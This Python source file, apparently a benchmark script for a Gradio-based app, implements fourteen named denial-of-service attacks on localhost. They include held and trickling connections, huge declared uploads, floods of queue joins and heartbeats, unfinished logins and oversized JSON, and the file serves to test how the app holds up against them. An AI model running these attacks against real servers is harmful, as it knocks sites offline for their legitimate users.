"""What one client can do to keep a page from its visitors; `page.py --attack` does it.

    python benchmarks/attacks.py PORT NAME        does it until it is ended

Whoever is hung up on comes again after a second.
"""

import asyncio
import contextlib
import json
import secrets
import sys
from collections.abc import AsyncIterator, Awaitable, Callable, Coroutine
from typing import Any

from visitors import draw, find_event

Attack = Callable[[int], Coroutine[Any, Any, None]]

UPLOAD = b"POST /gradio_api/upload HTTP/1.1\r\nHost: localhost\r\n"
FORM = b"Content-Type: multipart/form-data; boundary=b\r\n"
PART = (
    b"--b\r\nContent-Disposition: form-data; name=files; filename=a.jpg\r\n"
    b"Content-Type: image/jpeg\r\n\r\n"
)


async def hold(port: int, count: int, first: bytes, rest: bytes = b"") -> None:
    """Open connections that stay open, and send a byte now and then, or nothing."""

    async def come() -> None:
        while True:
            with contextlib.suppress(OSError):
                reader, writer = await asyncio.open_connection("127.0.0.1", port)
                try:
                    writer.write(first)
                    while rest:
                        await asyncio.sleep(1)
                        writer.write(rest)
                        await writer.drain()
                    while await reader.read(65536):
                        pass
                finally:
                    writer.close()
            await asyncio.sleep(1)

    await asyncio.gather(*(come() for _ in range(count)))


async def send(port: int, path: str, body: bytes, kind: str) -> bytes:
    """Send a request, and read the answer."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    try:
        writer.write(
            f"POST {path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: {kind}\r\n"
            f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n".encode()
            + body
        )
        await writer.drain()
        return (await reader.read()).partition(b"\r\n\r\n")[2]
    finally:
        writer.close()


async def flood(count: int, once: Callable[[], Awaitable[object]]) -> None:
    """Do something again and again, so many at once."""

    async def again() -> None:
        while True:
            with contextlib.suppress(OSError, ValueError, KeyError):
                await once()
            await asyncio.sleep(0.01)

    await asyncio.gather(*(again() for _ in range(count)))


async def joins(port: int, session: Callable[[], str]) -> AsyncIterator[bytes]:
    """Make requests for the description of an uploaded photo."""
    event = find_event(port)
    (photo,) = draw(1)
    body = PART + photo + b"\r\n--b--\r\n"
    while True:
        answer = await send(
            port, "/gradio_api/upload", body, "multipart/form-data; boundary=b"
        )
        data: list[Any] = list(event["values"])
        upload = {"path": json.loads(answer)[0], "meta": {"_type": "gradio.FileData"}}
        data[event["place"]] = upload
        for _ in range(500):
            asked = {"data": data, "fn_index": event["id"], "session_hash": session()}
            yield json.dumps(asked).encode()


async def crowd(port: int, session: Callable[[], str]) -> None:
    """Ask for many descriptions, which nobody fetches."""
    bodies = joins(port, session)
    lock = asyncio.Lock()

    async def once() -> None:
        async with lock:
            body = await anext(bodies)
        await send(port, "/gradio_api/queue/join", body, "application/json")

    await flood(20, once)


async def listen_in(port: int) -> None:
    """Ask once, and listen for the answer very often."""
    body = await anext(joins(port, lambda: "listening"))
    await send(port, "/gradio_api/queue/join", body, "application/json")
    await hold(port, 810, get("/gradio_api/queue/data?session_hash=listening"))


async def large(port: int) -> None:
    """Send much JSON."""
    body = b'{"data": ["' + b"a" * 250_000 + b'"], "session_hash": "x", "fn_index": 0}'
    table = b'{"data": ["' + b"b" * 1_900_000 + b'"], "session_hash": "x"}'

    async def once() -> None:
        await send(port, "/gradio_api/queue/join", body, "application/json")
        await send(port, "/gradio_api/component_server", table, "application/json")

    await flood(10, once)


async def broken_off(port: int) -> None:
    """Send uploads that break off."""

    async def once() -> None:
        _, writer = await asyncio.open_connection("127.0.0.1", port)
        writer.write(UPLOAD + FORM + b"Content-Length: 300000000\r\n\r\n" + PART)
        for _ in range(50):
            writer.write(bytes(100_000))
            await writer.drain()
        writer.close()

    await flood(5, once)


def get(path: str) -> bytes:
    """Write a request."""
    return f"GET {path} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode()


def heartbeat() -> bytes:
    """Write the request of an open page."""
    return get(f"/gradio_api/heartbeat/{secrets.token_hex(6)}")


ATTACKS: dict[str, Attack] = {
    "announced 4 GB": lambda port: hold(
        port, 200, UPLOAD + FORM + b"Content-Length: 4000000000\r\n\r\n"
    ),
    "announced 320 MB": lambda port: hold(
        port, 200, UPLOAD + FORM + b"Content-Length: 320000000\r\n\r\n" + PART
    ),
    "trickling uploads": lambda port: hold(
        port, 400, UPLOAD + FORM + b"Content-Length: 320000000\r\n\r\n" + PART, b"x"
    ),
    "chunks that trickle": lambda port: hold(
        port,
        400,
        UPLOAD + FORM + b"Transfer-Encoding: chunked\r\n\r\n" + b"1\r\n-\r\n",
        b"1\r\nx\r\n",
    ),
    "broken-off uploads": broken_off,
    "heartbeats": lambda port: hold(port, 810, heartbeat()),
    "streams": listen_in,
    "unfinished logins": lambda port: hold(
        port,
        801,
        b"POST /login HTTP/1.1\r\nHost: localhost\r\nContent-Length: 99\r\n\r\nu",
    ),
    "half a header": lambda port: hold(port, 3000, b"GET / HTTP/1.1\r\nX: ", b"x"),
    "no word": lambda port: hold(port, 3000, b""),
    "many answers": lambda port: hold(port, 100, get("/") * 20),
    "one in the line": lambda port: crowd(port, lambda: "one"),
    "many in the line": lambda port: crowd(port, lambda: secrets.token_hex(6)),
    "much JSON": large,
}


if __name__ == "__main__":
    print("attacking", flush=True)
    asyncio.run(ATTACKS[sys.argv[2]](int(sys.argv[1])))
